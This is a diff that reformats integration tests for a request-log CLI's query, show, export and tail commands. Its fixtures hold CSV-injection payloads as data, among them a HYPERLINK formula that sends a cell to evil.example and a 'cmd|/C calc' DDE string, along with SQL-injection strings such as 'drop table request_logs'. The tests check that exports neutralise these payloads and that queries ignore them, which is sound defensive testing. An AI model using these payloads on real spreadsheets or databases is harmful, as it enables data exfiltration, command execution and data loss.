@@ -55,7 +55,13 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
   const records = [...generateRecords({rows: 2000, days: 10, seed: 31})]
   records[3].response_body = 'a "quoted", comma\r\nand a new line'
   // text a spreadsheet would run as a formula (CSV injection): written by strangers, exported as text
-  const FORMULAS = {user_id: '=HYPERLINK("http://evil.example/?"&A1)', user_agent: '@SUM(1+1)*cmd|\' /C calc\'!A0', session_id: '-2+3', trace_id: '+1', request_id: '\t=1'}
+  const FORMULAS = {
+    user_id: '=HYPERLINK("http://evil.example/?"&A1)',
+    user_agent: "@SUM(1+1)*cmd|' /C calc'!A0",
+    session_id: '-2+3',
+    trace_id: '+1',
+    request_id: '\t=1',
+  }
   Object.assign(records[5], FORMULAS)
 
   before(async () => {
@@ -130,7 +136,9 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
       const a = fromDb.json()
       const b = fromFiles.json()
       // the top lists' order among equal counts follows each store's collation: compared as sets
-      for (const s of [a, b]) for (const k of ['topPaths', 'topUsers', 'topIps']) s[k] = [...s[k]].sort((x: object, y: object) => JSON.stringify(x).localeCompare(JSON.stringify(y)))
+      for (const s of [a, b])
+        for (const k of ['topPaths', 'topUsers', 'topIps'])
+          s[k] = [...s[k]].sort((x: object, y: object) => JSON.stringify(x).localeCompare(JSON.stringify(y)))
       expect(b, filter.join(' ')).to.deep.equal(a)
       expect(a.total).to.be.greaterThan(50)
       expect(a.topPaths.length).to.be.lessThan(1000) // every path listed, so the sets compare whole
@@ -145,7 +153,8 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
       expect(fromFiles.exitCode, fromFiles.stderr).to.equal(0)
       const a = fromDb.json()
       const b = fromFiles.json()
-      for (const k of ['id', 'method', 'path', 'status_code', 'request_headers', 'response_body', 'user_id', 'ip', 'flags']) expect(b[k], k).to.deep.equal(a[k])
+      for (const k of ['id', 'method', 'path', 'status_code', 'request_headers', 'response_body', 'user_id', 'ip', 'flags'])
+        expect(b[k], k).to.deep.equal(a[k])
       expect(Date.parse(b.created_at)).to.equal(Date.parse(a.created_at))
     }
     const unknown = await runCli(['show', '01a20cc4-2be0-720d-89d3-7a27694234dc', '--source', 'files', '--log-dir', logDir])
@@ -158,9 +167,27 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
     const id = String(records[5].id)
     const cols = ['user_id', 'user_agent', 'session_id', 'trace_id', 'request_id']
     const outputs = {
-      'export (COPY)': (await runCli(['export', '--format', 'csv', '--user', FORMULAS.user_id, '--out', path.join(dir, 'a.csv')], {env}), readFileSync(path.join(dir, 'a.csv'), 'utf8')),
-      'export --source files': (await runCli(['export', '--format', 'csv', '--user', FORMULAS.user_id, '--source', 'files', '--log-dir', logDir, '--out', path.join(dir, 'b.csv')]), readFileSync(path.join(dir, 'b.csv'), 'utf8')),
-      'query --format csv': (await runCli(['query', '--format', 'csv', '--user', FORMULAS.user_id, '--columns', ['id', ...cols].join(',')], {env})).stdout,
+      'export (COPY)':
+        (await runCli(['export', '--format', 'csv', '--user', FORMULAS.user_id, '--out', path.join(dir, 'a.csv')], {env}),
+        readFileSync(path.join(dir, 'a.csv'), 'utf8')),
+      'export --source files':
+        (await runCli([
+          'export',
+          '--format',
+          'csv',
+          '--user',
+          FORMULAS.user_id,
+          '--source',
+          'files',
+          '--log-dir',
+          logDir,
+          '--out',
+          path.join(dir, 'b.csv'),
+        ]),
+        readFileSync(path.join(dir, 'b.csv'), 'utf8')),
+      'query --format csv': (
+        await runCli(['query', '--format', 'csv', '--user', FORMULAS.user_id, '--columns', ['id', ...cols].join(',')], {env})
+      ).stdout,
     }
     for (const [how, text] of Object.entries(outputs)) {
       const rows = parseCsv(text.endsWith('\r\n') ? text : text + '\r\n')
@@ -187,7 +214,11 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
     const bad = await runCli(['query', '--since', 'last tuesday'], {env})
     expect(bad.exitCode).to.equal(2)
     expect(bad.stderr).to.contain('--since "last tuesday"').and.contain('15m, 24h, 7d')
-    for (const args of [['--path', "/'; drop table request_logs; --"], ['--user', "x' or '1'='1"], ['--search', "%' or 1=1 --"]]) {
+    for (const args of [
+      ['--path', "/'; drop table request_logs; --"],
+      ['--user', "x' or '1'='1"],
+      ['--search', "%' or 1=1 --"],
+    ]) {
       const r = await runCli(['query', ...args, '--json'], {env})
       expect(r.exitCode, r.stderr).to.equal(0)
       expect(r.json().records).to.deep.equal([])
@@ -217,7 +248,17 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
     for (const e of har.log.entries.slice(0, 50)) {
       expect(e).to.include.keys('startedDateTime', 'time', 'request', 'response', 'cache', 'timings')
       expect(e.request).to.include.keys('method', 'url', 'httpVersion', 'cookies', 'headers', 'queryString', 'headersSize', 'bodySize')
-      expect(e.response).to.include.keys('status', 'statusText', 'httpVersion', 'cookies', 'headers', 'content', 'redirectURL', 'headersSize', 'bodySize')
+      expect(e.response).to.include.keys(
+        'status',
+        'statusText',
+        'httpVersion',
+        'cookies',
+        'headers',
+        'content',
+        'redirectURL',
+        'headersSize',
+        'bodySize',
+      )
       expect(e.response.content).to.include.keys('size', 'mimeType')
       expect(e.timings).to.include.keys('send', 'wait', 'receive')
       expect(Number.isNaN(Date.parse(e.startedDateTime))).to.equal(false)
@@ -252,11 +293,18 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
   })
 
   it('tail follows new records until Ctrl-C', async () => {
-    const child = execa(process.execPath, [BIN, 'tail', '--format', 'ndjson', '--interval', '200', '--status', '418'], {env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false})
+    const child = execa(process.execPath, [BIN, 'tail', '--format', 'ndjson', '--interval', '200', '--status', '418'], {
+      env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'},
+      reject: false,
+    })
     let out = ''
     child.stdout!.on('data', (c: Buffer) => (out += c.toString()))
     await new Promise((r) => setTimeout(r, 1500))
-    const fresh = [...generateRecords({rows: 3, days: 1, seed: 99, now: new Date()})].map((x, i): Record<string, unknown> => ({...x, created_at: new Date(Date.now() - i * 10).toISOString(), status_code: 418}))
+    const fresh = [...generateRecords({rows: 3, days: 1, seed: 99, now: new Date()})].map((x, i): Record<string, unknown> => ({
+      ...x,
+      created_at: new Date(Date.now() - i * 10).toISOString(),
+      status_code: 418,
+    }))
     await writeRecords(db.client, 'request', fresh)
     const end = Date.now() + 10_000
     while (!fresh.every((x) => out.includes(String(x.id))) && Date.now() < end) await new Promise((r) => setTimeout(r, 100))
@@ -268,9 +316,17 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
   })
 
   it('tail polls without piling up listeners (no MaxListenersExceededWarning however long it runs)', async () => {
-    const child = execa(process.execPath, [BIN, 'tail', '--interval', '100', '--status', '599'], {env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false})
+    const child = execa(process.execPath, [BIN, 'tail', '--interval', '100', '--status', '599'], {
+      env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'},
+      reject: false,
+    })
     // tail's connection has run its first poll once pg_stat_activity shows it; then 3 s is about 30 polls (the warning came after the 11th)
-    const polling = async () => (await db.client.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE 'SELECT%request_logs%'")).rows[0].n > 0
+    const polling = async () =>
+      (
+        await db.client.query(
+          "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE 'SELECT%request_logs%'",
+        )
+      ).rows[0].n > 0
     const end = Date.now() + 30_000
     while (!(await polling()) && Date.now() < end) await new Promise((r) => setTimeout(r, 100))
     expect(await polling(), 'tail never polled').to.equal(true)
@@ -284,12 +340,36 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
   it('tail --source files follows the current JSONL file across a rotation', async () => {
     const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-tail-files-'))
     const file = path.join(dir, 'requests.jsonl')
-    const old = records.slice(0, 5).map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n').join('')
+    const old = records
+      .slice(0, 5)
+      .map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n')
+      .join('')
     writeFileSync(file, old) // written before tail started: not shown
-    const child = execa(process.execPath, [BIN, 'tail', '--source', 'files', '--log-dir', dir, '--format', 'ndjson', '--interval', '100', '--method', 'GET,POST,PUT,DELETE,PATCH,HEAD,OPTIONS'], {env: {OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false})
+    const child = execa(
+      process.execPath,
+      [
+        BIN,
+        'tail',
+        '--source',
+        'files',
+        '--log-dir',
+        dir,
+        '--format',
+        'ndjson',
+        '--interval',
+        '100',
+        '--method',
+        'GET,POST,PUT,DELETE,PATCH,HEAD,OPTIONS',
+      ],
+      {env: {OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false},
+    )
     let out = ''
     child.stdout!.on('data', (c: Buffer) => (out += c.toString()))
-    const lines = (from: number, to: number) => records.slice(from, to).map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n').join('')
+    const lines = (from: number, to: number) =>
+      records
+        .slice(from, to)
+        .map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n')
+        .join('')
     const shown = (from: number, to: number) => records.slice(from, to).every((r) => out.includes(String(r.id)))
     const waitFor = async (ok: () => boolean) => {
       const end = Date.now() + 20_000
@@ -319,7 +399,10 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
     child.kill('SIGINT')
     const result = await child
     expect(result.exitCode, result.stderr).to.equal(0)
-    const ids = out.trim().split('\n').map((l) => JSON.parse(l).id)
+    const ids = out
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l).id)
     expect(ids).to.deep.equal(records.slice(10, 30).map((r) => r.id))
   })
 })
